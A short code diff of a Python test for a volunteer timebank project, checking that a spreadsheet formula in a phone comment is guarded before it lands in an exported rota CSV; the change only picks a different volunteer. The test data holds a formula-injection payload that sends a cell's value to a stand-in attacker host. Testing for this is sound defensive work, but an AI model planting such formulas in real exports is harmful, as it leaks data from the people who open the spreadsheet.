@@ -123,7 +123,7 @@ def test_a_formula_in_a_phone_comment_is_guarded_in_the_kept_rota(linked):
     rota beside the ledger (``timebank/phone-*.csv``) with the guard in front, like every
     CSV the project writes."""
     client, _, links, data = linked
-    volunteer = sorted(links)[-1]
+    volunteer = sorted(links)[len(links) // 2]  # one no other test of the module marks
     visit = visits(client, links[volunteer])[0]
     comment = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
     assert client.post(f"{links[volunteer]}/marks", json={
